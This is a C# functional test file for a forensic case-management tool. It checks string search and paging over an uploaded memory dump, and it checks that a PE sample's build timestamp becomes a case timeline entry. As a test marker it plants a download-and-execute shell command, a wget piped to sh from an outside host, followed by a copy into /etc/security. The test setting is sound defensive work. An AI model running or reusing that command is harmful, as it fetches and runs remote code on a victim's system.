using CaseManager.Application.Evidence.Commands.AppendChunk;
using CaseManager.Application.Evidence.Commands.BeginUpload;
using CaseManager.Application.Evidence.Commands.CompleteUpload;
using CaseManager.Application.Evidence.Queries.GetDumpStrings;
using CaseManager.Application.Evidence.Queries.GetMemoryView;

namespace CaseManager.Application.FunctionalTests.Evidence;

/// <summary>A memory dump's evidence view: stored facts, and its strings searched and paged on the server.</summary>
public abstract class MemoryViewTests<TApp>(TApp app) : EvidenceTestBase<TApp>(app)
    where TApp : FunctionalTestApp
{
    private const string Planted = "wget http://sjb555.3322.org/ntps | sh; cp ntps /etc/security/ntps.conf ";

    private static long MiB(long offset) => (offset + 64) >> 20;

    [SkippableFact]
    public async Task Strings_AreFilteredAndPaged_FromTheEvidenceItself()
    {
        var caseId = await NewCaseAsync();
        const long size = 8L * 1024 * 1024;
        var uploadId = await App.SendAsync(new BeginEvidenceUploadCommand(caseId, "kworker.mem", size));
        await App.SendAsync(new AppendEvidenceChunkCommand(uploadId, 0, new GeneratedStream(0, size, marker: Planted)));
        var evidenceId = await App.SendAsync(new CompleteEvidenceUploadCommand(uploadId, "test"));
        await AnalyseAsync(evidenceId);

        (await App.SendAsync(new GetMemoryViewQuery(evidenceId))).Result.Kind.ShouldBe("raw-memory");
        var first = await App.SendAsync(new GetDumpStringsQuery(evidenceId, "NTPS.CONF", PageSize: 3));
        // The planted line starts every MiB (a printable pattern byte just before it may start the string a little earlier, as GNU strings does).
        first.Strings.Select(s => MiB(s.Offset)).ShouldBe([0L, 1L, 2L]);
        first.Strings.ShouldAllBe(s => s.Text.Contains(Planted.TrimEnd(), StringComparison.Ordinal));
        first.HasMore.ShouldBeTrue();

        var last = await App.SendAsync(new GetDumpStringsQuery(evidenceId, "ntps.conf", PageSize: 3, Page: 3));
        last.Strings.Select(s => MiB(s.Offset)).ShouldBe([6L, 7L]);
        last.HasMore.ShouldBeFalse();
    }

    [SkippableFact]
    public async Task PeSample_ItsHeaderTimestampBecomesACaseTimelineEntry()
    {
        var caseId = await NewCaseAsync();
        var path = typeof(MemoryViewTests<>).Assembly.Location;
        var bytes = await File.ReadAllBytesAsync(path);
        using var pe = new System.Reflection.PortableExecutable.PEReader(new MemoryStream(bytes));
        var linked = DateTimeOffset.FromUnixTimeSeconds((uint)pe.PEHeaders.CoffHeader.TimeDateStamp);
        var evidenceId = await UploadAsync(caseId, "dropper.dll", bytes);
        await AnalyseAsync(evidenceId);

        var timeline = (await App.SendAsync(new CaseManager.Application.Cases.Queries.GetCaseAnalysis.GetCaseAnalysisQuery(caseId))).Timeline;

        var entry = timeline.ShouldHaveSingleItem();
        (entry.Kind, entry.At, entry.Subject).ShouldBe((Domain.Cases.TimelineEntryKind.SampleCompiled, linked, "dropper.dll"));
        var view = await App.SendAsync(new GetMemoryViewQuery(evidenceId));
        view.Result.Sample!.Pe.ShouldNotBeNull();
        view.Tables.Select(t => t.Name).ShouldBe(["mapped_files", "modules", "threads"]);
    }
}

public sealed class MemoryViewOnSqliteTests(SqliteApp app) : MemoryViewTests<SqliteApp>(app), IClassFixture<SqliteApp>;

public sealed class MemoryViewOnPostgresTests(PostgresApp app) : MemoryViewTests<PostgresApp>(app), IClassFixture<PostgresApp>;
